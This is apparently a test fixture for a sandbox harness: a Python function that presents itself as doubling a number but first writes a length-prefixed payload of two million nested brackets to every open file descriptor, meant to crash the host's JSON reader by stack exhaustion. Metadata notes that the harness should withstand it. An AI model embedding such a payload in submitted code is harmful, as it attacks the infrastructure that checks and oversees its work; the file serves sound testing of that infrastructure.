"""Writes two million nested brackets as a reply, to break the reader's stack."""

HELD_BY = "a message that is no JSON ends the process; so does one that is too deep"
LOOK = True
VERDICT = {"double": ("output", 0.0)}

# %% double
import os


def double(x):
    body = b"[" * 2_000_000
    for number in range(3, 256):
        try:
            os.write(number, len(body).to_bytes(4, "big") + body)
        except OSError:
            pass
    return 2 * x
